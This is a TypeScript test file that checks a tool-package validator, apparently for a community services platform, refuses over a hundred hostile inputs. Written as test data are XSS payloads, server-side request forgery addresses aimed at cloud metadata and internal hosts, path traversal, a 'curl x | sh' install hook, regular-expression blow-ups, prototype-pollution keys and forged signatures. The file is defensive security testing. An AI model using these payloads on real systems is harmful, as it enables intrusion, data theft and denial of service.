/** More than a hundred documents made to harm: each is refused with a path and a reason, or holds nothing that runs. By families, so that the next of a kind falls too. */
import { describe, expect, test } from 'vitest'
import type { Fault } from '../../document/document.ts'
import { borrowing, bytesOf, spoilt } from '../../testing/sample.ts'
import { checkBytes } from './check.ts'
import { digestOf, keyIdOf, makeKey, openFile, pack, parcelText, signatureFault, signParcel } from './sign.ts'

type Hostile = readonly [name: string, bytes: Uint8Array]
const refused = (bytes: Uint8Array): readonly Fault[] =>
  openFile(bytes).faults.filter(({ level }) => level === 'refuse')

const at = (path: string, values: Readonly<Record<string, unknown>>): Hostile[] =>
  Object.entries(values).map(([name, value]) => [name, bytesOf(spoilt(path, value))])

const ruleAt = ['/audience/0/rule', '/forms/0/fields/1/when', '/points/0/when', '/processes/0/moves/lend/when']
const nested = (depth: number, open: string, close: string) => `${open.repeat(depth)}true${close.repeat(depth)}`
const rules: Readonly<Record<string, string>> = {
  'a thousand ands': Array.from({ length: 1000 }, () => 'true').join(' && '),
  'deep brackets': nested(500, '(', ')'),
  'deep negation': `${'!'.repeat(900)}true`,
  'a loop in a loop': '[1,2,3].all(a, [1,2,3].all(b, a == b))',
  'three loops': '[1].all(a, [1].exists(b, [1].all(c, a == c)))',
  'a huge list': `[${Array.from({ length: 1500 }, (_, n) => n).join(',')}].exists(x, x == 1)`,
  'a doubling map': '[1,2].map(x, [x,x]).map(y, [y,y]).map(z, [z,z]).size() > 1',
  'a regular expression': `"aaaaaaaaaaaaaaaaaaaaaaaaaaaa!".matches("^(a+)+$")`,
  'a bomb of a pattern': `answers.use.matches("(x+x+)+y")`,
  'a constructor': 'answers.constructor == 1',
  'a prototype': 'answers.__proto__.x == 1',
  'a name in brackets': 'answers["constructor"] == 1',
  'a global': 'process.env.KEY == "x"',
  'the global of globals': 'globalThis.fetch("x") == 1',
  'a file': 'require("fs").size() > 0',
  'a call of nothing known': 'eval("1") == 1',
  has: 'has(answers.tool)',
  'an assignment': 'answers.tool = "x"',
  'a script instead': 'while(true){}',
  'a template': '`x` == "1"',
  'a text that doubles': `["${'a'.repeat(500)}"]${'.map(x, x + x)'.repeat(18)}.size() > 0`,
  'a filter that copies': '[1,2,3].filter(x, x > 1).size() > 0',
  'a type error': '1 + "a" == 2',
  'no verdict': '"always"',
  'a number': '42',
  'half a rule': 'answers.tool ==',
  'somebody else’s field': 'answers.secretOfOther == "1"',
  'a sealed field': 'answers.phone == "13800001001"',
  'an undeclared person': 'person.idNumber == "1"',
  'a fact nobody declares': 'salary > 1000',
}
const ruleFamily: Hostile[] = ruleAt.flatMap((path) =>
  Object.entries(rules).map(([name, rule]): Hostile => [`${name} at ${path}`, bytesOf(spoilt(path, rule))]),
)
const manyRules = () => {
  const copy = borrowing()
  const field = copy.forms[0]?.fields[0]
  const form = copy.forms[0]
  if (!field || !form) throw new Error('the sample has a form')
  const fields = Array.from({ length: 40 }, (_, n) => ({
    ...field,
    key: n === 0 ? 'tool' : `f${n}`,
    ...(n === 0 ? {} : { when: Array.from({ length: 90 }, () => `answers.tool == 'x'`).join(' || ') }),
  }))
  return { ...copy, forms: [{ ...form, fields }, ...copy.forms.slice(1)] }
}

const text = [
  '/name/zh-CN',
  '/summary/zh-CN',
  '/forms/0/fields/0/label/zh-CN',
  '/reminders/0/words/zh-CN',
  '/needs/0/what/zh-CN',
]
const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//x>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '< iframe src=x>',
  '点击[这里](javascript:alert(1))',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '&#60;script&#62;',
  '&lt;script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  'x" onmouseover="alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  ['$', '{process.env}'].join(''),
  '<%= 1 %>',
  '<!--',
  '</title>',
  '`'.repeat(3),
]
const unseen: Readonly<Record<string, string>> = {
  'right-to-left override': '审批\u202e通过',
  isolates: '\u2066通过\u2069',
  'zero width space': '通\u200b过',
  'zero width joiner': '通\u200d过',
  'word joiner': '通\u2060过',
  'byte order mark inside': '通\ufeff过',
  'soft hyphen': 'a\u00adb',
  'tags of letters': '通过\u{e0041}',
  'hangul filler': '通过\u3164',
  'variation selector': '通过\ufe0f',
  'braille blank': '通过\u2800',
  'line separator': '通过\u2028',
  null: '通\u0000过',
  bell: '通\u0007过',
  escape: '\u001b[31m通过',
  'private use': '通过\ue000',
  'no character': '通过\ufdd0',
  'half a pair': '通过\ud800',
  'no-break space': '通\u00a0过',
  'stacked marks': `过${'\u0301'.repeat(20)}`,
  'arabic letter mark': '\u061c通过',
  'mongolian separator': '\u180e通过',
}
const textFamily: Hostile[] = [
  ...text.flatMap((path) => scripts.map((one): Hostile => [`${one} at ${path}`, bytesOf(spoilt(path, `借用 ${one}`))])),
  ...text.flatMap((path) =>
    Object.entries(unseen).map(([name, one]): Hostile => [`${name} at ${path}`, bytesOf(spoilt(path, one))]),
  ),
  ...at('/name/en', {
    'cyrillic a': 'Bаnk of Liren',
    'greek o': 'Gοvernment',
    'chinese in English': '借用 tool',
    nothing: '',
    'too long': 'x'.repeat(5000),
  }),
]

const addresses = [
  'http://example.org/',
  'https://127.0.0.1/',
  'https://127.1/',
  'https://2130706433/',
  'https://0x7f000001/',
  'https://0177.0.0.1/',
  'https://0x7f.0.0.1/',
  'https://017700000001/',
  'https://0/',
  'https://0.0.0.0/',
  'https://10.0.0.8/',
  'https://172.20.1.1/',
  'https://192.168.1.1/',
  'https://169.254.169.254/latest/meta-data/',
  'https://100.100.100.200/',
  'https://[::1]/',
  'https://[::]/',
  'https://[::ffff:127.0.0.1]/',
  'https://[::ffff:7f00:1]/',
  'https://[64:ff9b::7f00:1]/',
  'https://[2002:7f00:1::]/',
  'https://[fd00::1]/',
  'https://[fe80::1%25eth0]/',
  'https://[2001:db8::1]/',
  'https://localhost/',
  'https://LOCALHOST./',
  'https://db.internal/',
  'https://printer.local/',
  'https://metadata.google.internal/',
  'https://127.0.0.1.nip.io/',
  'https://10-0-0-1.sslip.io/',
  'https://7f000001.rbndr.us/',
  'https://app.localtest.me/',
  'https://kubernetes.default.svc/',
  'https://intranet/',
  'https://user:secret@example.org/',
  'https://example.org@127.0.0.1/',
  'https://example.org%40127.0.0.1/',
  'https://example.org:8443/',
  'https://example.org:22/',
  'https://example.org#@127.0.0.1/',
  'https:\\\\example.org\\',
  'https:/\\127.0.0.1/',
  'https://１２７.0.0.1/',
  'https://①②⑦.0.0.1/',
  'https://exаmple.org/',
  'https://xn--exmple-4nf.org/',
  'https://example。org/',
  'https://example.org/\u200b',
  'https://example.org/?url=http://127.0.0.1/',
  'https://example.org/login?redirect_uri=https://evil.example.net/',
  'https://example.org/r?next=//127.0.0.1',
  'https://example.org/%2e%2e/%2e%2e/etc/passwd',
  'https://example.org/../../admin',
  'https://example.org/%0d%0aHost:%20x',
  'https://example.org/a/https://127.0.0.1/',
  'ftp://example.org/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'javascript:alert(1)',
  'data:text/html,x',
  '//example.org/',
  'example.org',
  '',
]
const linked = (url: string) => ({
  ...borrowing(),
  kind: 'linked',
  processes: [],
  forms: [],
  lists: [],
  reminders: [],
  points: [],
  indicators: [],
  examples: [],
  permissions: [{ who: 'worker', may: 'read' }],
  data: { reads: [], writes: [] },
  link: { url, claims: ['pairwiseId'] },
})
const ported = (url: string) => {
  const { link: _, ...rest } = linked(url)
  return {
    ...rest,
    kind: 'port',
    port: { url, perMinute: 60, answerWithinMs: 2000, sends: [], receives: ['x'], healthPath: '/health' },
  }
}
const addressFamily: Hostile[] = addresses.flatMap((url): Hostile[] => [
  [`link to ${url}`, bytesOf(linked(url))],
  [`port to ${url}`, bytesOf(ported(url))],
])

const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf']
const raw = (path: string, key: string) => {
  const marker = '"@@"'
  const text = JSON.stringify(spoilt(path, '@@'))
  return bytesOf(text.replace(marker, `{${JSON.stringify(key)}:{"x":1}}`))
}
const nameFamily: Hostile[] = [
  ...names.flatMap((name): Hostile[] => [
    [`${name} as a key`, raw('/texts', name)],
    [`${name} as a state`, raw('/processes/0/states', name)],
    [`${name} as a field`, bytesOf(spoilt('/forms/0/fields/0/key', name))],
    [`${name} as a choice`, raw('/forms/0/fields/0/choices', name)],
    [`${name} as an id`, bytesOf(spoilt('/id', name))],
  ]),
  ['an escaped prototype', bytesOf(JSON.stringify(borrowing()).replace('"summary"', '"__pro\\u0074o__"'))],
  ...[
    '../../etc/passwd',
    'a/b',
    'a\\b',
    '..',
    'a%2f..',
    'C:',
    'a\u0000b',
    'A',
    'a_b',
    '-a',
    'a-',
    'ａ',
    'а',
    'con',
    'native',
    'x'.repeat(41),
    '',
  ].map((id): Hostile => [`id ${id}`, bytesOf(spoilt('/id', id))]),
  ...['1', '1.0', '1.0.0-beta', '01.0.0', '1.0.0.0', '99999999.0.0', '1.0.0; drop table', '１.0.0'].map(
    (version): Hostile => [`version ${version}`, bytesOf(spoilt('/version', version))],
  ),
]

const doubled = (key: string) => {
  const text = JSON.stringify(borrowing())
  return bytesOf(text.replace(`"${key}":`, `"${key}":null,"${key}":`))
}
const ten = 'x'.repeat(10_000)
const shapeFamily: Hostile[] = [
  ...['id', 'version', 'retention', 'data', 'kind', 'audience'].map((key): Hostile => [`${key} twice`, doubled(key)]),
  ['a key twice by looks', bytesOf(JSON.stringify(borrowing()).replace('"id":', '"ID":1,"id":'))],
  ['a deep list', bytesOf(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)],
  ['a deep object', bytesOf(`${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`)],
  ['a wide object', bytesOf(`{${Array.from({ length: 30_000 }, (_, n) => `"k${n}":0`).join()}}`)],
  ['a huge text', bytesOf(spoilt('/summary/en', 'x'.repeat(400_000)))],
  ['a huge number', bytesOf(JSON.stringify(borrowing()).replace('"keepDays":365', '"keepDays":1e400'))],
  [
    'a number of many digits',
    bytesOf(JSON.stringify(borrowing()).replace('"keepDays":365', `"keepDays":${'9'.repeat(300)}`)),
  ],
  [
    'a number past safety',
    bytesOf(JSON.stringify(borrowing()).replace('"amountFen":40000', '"amountFen":9007199254740993')),
  ],
  ['a negative cost', bytesOf(spoilt('/cost/amountFen', -1))],
  ['half a day of keeping', bytesOf(spoilt('/retention/keepDays', 0.5))],
  ['kept for ever', bytesOf(spoilt('/retention/keepDays', 1e9))],
  ['minus zero as digits', bytesOf(JSON.stringify(borrowing()).replace('"keepDays":365', '"keepDays":0365'))],
  ['a hexadecimal number', bytesOf(JSON.stringify(borrowing()).replace('"keepDays":365', '"keepDays":0x10'))],
  ['not a number', bytesOf(JSON.stringify(borrowing()).replace('"keepDays":365', '"keepDays":NaN'))],
  ['a comment', bytesOf(`/* */${JSON.stringify(borrowing())}`)],
  ['a trailing document', bytesOf(`${JSON.stringify(borrowing())}{}`)],
  ['a trailing comma', bytesOf(JSON.stringify(borrowing()).replace(/\}$/, ',}'))],
  ['single quotes', bytesOf("{'format':'liren-tool/1'}")],
  ['a byte order mark', bytesOf(`\ufeff${JSON.stringify(borrowing())}`)],
  ['no UTF-8', new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
  ['an overlong slash', new Uint8Array([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d])],
  ['UTF-16', new Uint8Array([0xff, 0xfe, 0x7b, 0x00])],
  ['a zip', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00])],
  ['an empty zip', new Uint8Array([0x50, 0x4b, 0x05, 0x06])],
  ['a gzip', new Uint8Array([0x1f, 0x8b, 0x08])],
  ['a zip behind a document', new Uint8Array([...bytesOf(borrowing()), 0x50, 0x4b, 0x03, 0x04])],
  ['nothing', new Uint8Array()],
  ['null', bytesOf('null')],
  ['a list', bytesOf('[]')],
  ['a reference', bytesOf(spoilt('/forms/0/fields/0/schema', { $ref: '#' }))],
  [
    'a recursive definition',
    bytesOf(spoilt('/forms/0/fields/0/schema', { $ref: '#/$defs/a', $defs: { a: { $ref: '#/$defs/a' } } })),
  ],
  ['a remote reference', bytesOf(spoilt('/forms/0/fields/0/schema', { $ref: 'http://127.0.0.1/schema.json' }))],
  [
    'all of everything',
    bytesOf(spoilt('/forms/0/fields/0/schema', { allOf: Array.from({ length: 500 }, () => ({ type: 'string' })) })),
  ],
  ['a pattern', bytesOf(spoilt('/forms/0/fields/0/schema', { type: 'string', maxLength: 40, pattern: '^(a+)+$' }))],
  [
    'a pattern of keys',
    bytesOf(spoilt('/forms/0/fields/0/schema', { type: 'object', patternProperties: { '(a+)+$': {} } })),
  ],
  ['an object in a field', bytesOf(spoilt('/forms/0/fields/0/schema', { type: 'object', properties: {} }))],
  [
    'a list of lists',
    bytesOf(spoilt('/forms/0/fields/0/schema', { type: 'array', maxItems: 5, items: { type: 'array' } })),
  ],
  ['a text without end', bytesOf(spoilt('/forms/0/fields/4/schema', { type: 'string' }))],
  [
    'a list without end',
    bytesOf(spoilt('/forms/0/fields/4/schema', { type: 'array', items: { type: 'string', maxLength: 5 } })),
  ],
  ['a number without end', bytesOf(spoilt('/forms/0/fields/3/schema', { type: 'number' }))],
  ['bounds that cross', bytesOf(spoilt('/forms/0/fields/3/schema', { type: 'integer', minimum: 9, maximum: 1 }))],
  [
    'a format of its own',
    bytesOf(spoilt('/forms/0/fields/4/schema', { type: 'string', maxLength: 9, format: 'regex' })),
  ],
  ['a default', bytesOf(spoilt('/forms/0/fields/4/schema', { type: 'string', maxLength: 9, default: 'x' }))],
  [
    'too many choices',
    bytesOf(
      spoilt('/forms/0/fields/0/schema', { type: 'string', enum: Array.from({ length: 500 }, (_, n) => `c${n}`) }),
    ),
  ],
  [
    'a hundred fields',
    bytesOf(
      spoilt(
        '/forms/0/fields',
        Array.from({ length: 100 }, (_, n) => ({ ...borrowing().forms[0]?.fields[0], key: `f${n}` })),
      ),
    ),
  ],
  ['a field of its own making', bytesOf(spoilt('/forms/0/fields/0/onChange', 'alert(1)'))],
  ['code', bytesOf(spoilt('/code', 'module.exports = 1'))],
  ['a hook', bytesOf(spoilt('/scripts', { install: 'curl x | sh' }))],
  ['an image by address', bytesOf(spoilt('/icon', 'https://example.org/x.svg'))],
  ['styles', bytesOf(spoilt('/style', 'body{background:url(//x)}'))],
  ['very many rules', bytesOf(manyRules())],
  ['long keys', bytesOf(spoilt('/texts', { [ten]: { 'zh-CN': '字', en: 'x' } }))],
  ['another format', bytesOf(spoilt('/format', 'liren-tool/99'))],
  ['no format', bytesOf(spoilt('/format', undefined))],
  ['a licence of one’s own', bytesOf(spoilt('/licence', '<b>mine</b>'))],
  ['a day that is none', bytesOf(spoilt('/retention/endsOn', '2026-02-30'))],
]

const processFamily: Hostile[] = [
  [
    'a state nobody reaches',
    bytesOf(spoilt('/processes/0/states/limbo', { title: { 'zh-CN': '虚空', en: 'Limbo' }, phase: 'doing' })),
  ],
  [
    'a circle without a way out',
    bytesOf(
      spoilt('/processes/0/moves', {
        go: { title: { 'zh-CN': '去', en: 'Go' }, from: ['asked'], to: 'lent', who: ['worker'] },
        back: { title: { 'zh-CN': '回', en: 'Back' }, from: ['lent'], to: 'asked', who: ['worker'] },
      }),
    ),
  ],
  [
    'a trap beside the way out',
    bytesOf(
      spoilt(
        '/processes/0/moves/fall',
        { title: { 'zh-CN': '掉', en: 'Fall' }, from: ['asked'], to: 'pit', who: ['worker'] },
        spoilt('/processes/0/states/pit', { title: { 'zh-CN': '坑', en: 'Pit' }, phase: 'doing' }),
      ),
    ),
  ],
  [
    'nothing is ever done',
    bytesOf(
      spoilt('/processes/0/states/returned/phase', 'doing', spoilt('/processes/0/states/cancelled/phase', 'doing')),
    ),
  ],
  ['a move from nowhere', bytesOf(spoilt('/processes/0/moves/lend/from', ['nowhere']))],
  ['a move to nowhere', bytesOf(spoilt('/processes/0/moves/lend/to', 'nowhere'))],
  ['a move of nobody', bytesOf(spoilt('/processes/0/moves/lend/who', []))],
  ['a move of the system', bytesOf(spoilt('/processes/0/moves/lend/who', ['system']))],
  ['a move by a permission of others', bytesOf(spoilt('/processes/0/moves/lend/who', ['account.administer']))],
  [
    'a reporter who reopens',
    bytesOf(
      spoilt('/processes/0/moves/again', {
        title: { 'zh-CN': '再来', en: 'Again' },
        from: ['returned'],
        to: 'lent',
        who: ['reporter'],
      }),
    ),
  ],
  ['a clock nobody set', bytesOf(spoilt('/processes/0/moves/lend/starts', ['never']))],
  ['a clock without time', bytesOf(spoilt('/processes/0/clocks/fetch/limit/amount', 0))],
  ['a clock of ages', bytesOf(spoilt('/processes/0/clocks/fetch/limit/amount', 1e9))],
  [
    'a built-in state',
    bytesOf(spoilt('/processes/0/states/voided', { title: { 'zh-CN': '废', en: 'Void' }, phase: 'done' })),
  ],
  ['a form that is not there', bytesOf(spoilt('/processes/0/form', 'ghost'))],
  ['a process twice', bytesOf(spoilt('/processes', [borrowing().processes[0], borrowing().processes[0]]))],
]

const privateFamily: Hostile[] = [
  ['reads without saying so', bytesOf(spoilt('/data/reads', []))],
  [
    'binds to the number on the identity card, not marked personal',
    bytesOf(spoilt('/forms/0/fields/4/binds', 'person.idNumber')),
  ],
  ['takes the seal off the phone', bytesOf(spoilt('/forms/0/fields/5/isPersonal', undefined))],
  ['asks without a ground in law', bytesOf(spoilt('/forms/0/fields/5/basis', undefined))],
  ['shows a phone in a list', bytesOf(spoilt('/lists/0/columns', ['tool', 'phone']))],
  ['shows a phone to everybody', bytesOf(spoilt('/lists/1/columns', ['phone']))],
  ['names records by phone', bytesOf(spoilt('/processes/0/titleField', 'phone'))],
  ['reads the age without saying so', bytesOf(spoilt('/audience/0/rule', 'age > 60'))],
  ['reads tags without saying so', bytesOf(spoilt('/audience/0/rule', 'tags.exists(t, t == "hiv")'))],
  ['reads who lives alone', bytesOf(spoilt('/audience/0/rule', 'livesAlone'))],
  ['binds to an entry of nobody’s', bytesOf(spoilt('/forms/0/fields/4/binds', 'kernel_audit; drop table'))],
  ['moves nobody was allowed', bytesOf(spoilt('/permissions', [{ who: 'admin', may: 'read' }]))],
  ['a permission of its own', bytesOf(spoilt('/permissions/0/may', 'account.administer'))],
  ['points without end', bytesOf(spoilt('/points/0/points', 1_000_000))],
  ['points without a cap', bytesOf(spoilt('/points/0/perDay', 1e6))],
  ['points for nothing', bytesOf(spoilt('/points/0/on', 'breathe'))],
  [
    'claims beyond the allowed',
    bytesOf({ ...linked('https://tool.gz.gov.cn/'), link: { url: 'https://tool.gz.gov.cn/', claims: ['idNumber'] } }),
  ],
  [
    'comes back elsewhere',
    bytesOf({
      ...linked('https://tool.gz.gov.cn/'),
      link: { url: 'https://tool.gz.gov.cn/', claims: [], redirectUrls: ['https://evil.gz.net/cb'] },
    }),
  ],
  [
    'sends what it does not declare',
    bytesOf({
      ...ported('https://api.gz.gov.cn/'),
      port: {
        url: 'https://api.gz.gov.cn/',
        perMinute: 60,
        answerWithinMs: 2000,
        sends: ['person.idNumber'],
        receives: [],
        healthPath: '/h',
      },
    }),
  ],
  [
    'a health path that climbs',
    bytesOf({
      ...ported('https://api.gz.gov.cn/'),
      port: {
        url: 'https://api.gz.gov.cn/',
        perMinute: 60,
        answerWithinMs: 2000,
        sends: [],
        receives: [],
        healthPath: '/../x',
      },
    }),
  ],
  [
    'floods a port',
    bytesOf({
      ...ported('https://api.gz.gov.cn/'),
      port: {
        url: 'https://api.gz.gov.cn/',
        perMinute: 1e6,
        answerWithinMs: 2000,
        sends: [],
        receives: [],
        healthPath: '/h',
      },
    }),
  ],
]

const families: Readonly<Record<string, readonly Hostile[]>> = {
  'rules that run away or reach out': ruleFamily,
  'texts that run or mislead': textFamily,
  'addresses that point home': addressFamily,
  'names that reach where no document may': nameFamily,
  'bytes and shapes made to choke a reader': shapeFamily,
  'processes without a way out': processFamily,
  'data and permissions nobody declared': privateFamily,
}

test('the example itself is sound, so that each refusal below is for what was spoilt', () => {
  expect(checkBytes(bytesOf(borrowing())).faults).toEqual([])
  for (const url of ['https://tool.gz.gov.cn/', 'https://www.gdzwfw.gov.cn/portal/v2/index?region=440104'])
    expect(checkBytes(bytesOf(linked(url))).faults.filter(({ level }) => level === 'refuse')).toEqual([])
})

test('the corpus holds at least a hundred documents', () => {
  expect(Object.values(families).flat().length).toBeGreaterThan(100)
})

describe.each(Object.entries(families))('%s', (_, family) => {
  test.each(family)('%s', (_name, bytes) => {
    const before = Object.keys(Object.prototype).length
    const faults = refused(bytes)
    expect(faults.length).toBeGreaterThan(0)
    for (const fault of faults) {
      expect(fault.path === '' || fault.path.startsWith('/')).toBe(true)
      expect(fault.reason.length).toBeGreaterThan(3)
      expect(fault.reason.length).toBeLessThan(400)
    }
    expect(Object.keys(Object.prototype).length).toBe(before)
    expect(({} as { x?: unknown }).x).toBeUndefined()
  })
})

describe('parcels', () => {
  const key = makeKey('yuexiushan-community')
  const stranger = makeKey('yuexiushan-community')
  const good = signParcel(pack(borrowing()), key)
  const open = (parcel: unknown) => openFile(bytesOf(parcel))
  const fault = (parcel: unknown, trusted = [key]) => {
    const opened = open(parcel)
    return opened.faults.find(({ level }) => level === 'refuse') ?? signatureFault(opened, trusted)
  }

  test('a parcel signed by its publisher is taken, and is the same bytes every time', () => {
    expect(fault(good)).toBeNull()
    expect(parcelText(signParcel(pack(structuredClone(borrowing())), key))).toBe(parcelText(good))
  })

  const { signature } = good
  const other = { ...borrowing(), id: 'other-tool' }
  const bad: Readonly<Record<string, unknown>> = {
    'nobody signed': pack(borrowing()),
    'a stranger signed': signParcel(pack(borrowing()), stranger),
    'a stranger with the name of the key': {
      ...signParcel(pack(borrowing()), stranger),
      signature: { ...signParcel(pack(borrowing()), stranger).signature, keyId: key.keyId },
    },
    'another document under the signature': { ...good, document: spoilt('/cost/amountFen', 1) },
    'another document and its own digest': { ...good, document: other, digest: digestOf(other) },
    'another version': {
      ...good,
      document: { ...borrowing(), version: '9.0.0' },
      digest: digestOf({ ...borrowing(), version: '9.0.0' }),
    },
    'a broken signature': { ...good, signature: { ...signature, value: `A${signature?.value.slice(1)}` } },
    'a short signature': { ...good, signature: { ...signature, value: signature?.value.slice(2) } },
    'another algorithm': { ...good, signature: { ...signature, algorithm: 'none' } },
    'another publisher': { ...good, signature: { ...signature, publisher: 'district' } },
    'more beside the signature': { ...good, trust: true },
    'more in the signature': { ...good, signature: { ...signature, key: key.publicKey } },
    'a digest of nothing': { ...good, digest: 'sha256:' },
    'a parcel of another format': { ...good, format: 'liren-tool-parcel/9' },
    'a parcel in a parcel': { ...good, document: good },
  }
  test.each(Object.entries(bad))('%s', (_, parcel) => expect(fault(parcel)?.reason.length).toBeGreaterThan(3))

  test('a key that is not Ed25519 is nobody’s', () => {
    expect(fault(good, [{ ...key, publicKey: 'not a key' }])?.code).toBeDefined()
    expect(keyIdOf(key.publicKey)).toBe(key.keyId)
  })
})
